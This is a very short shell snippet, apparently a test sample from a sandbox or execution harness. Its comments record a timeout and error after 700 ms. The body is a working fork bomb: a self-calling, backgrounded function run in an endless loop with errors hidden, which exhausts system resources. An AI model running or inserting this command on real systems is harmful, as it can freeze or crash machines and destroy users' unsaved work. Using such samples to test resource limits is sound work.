# status: timeout, error
# wall: 700ms
bomb() { bomb | bomb & }
while :; do bomb; done 2>/dev/null
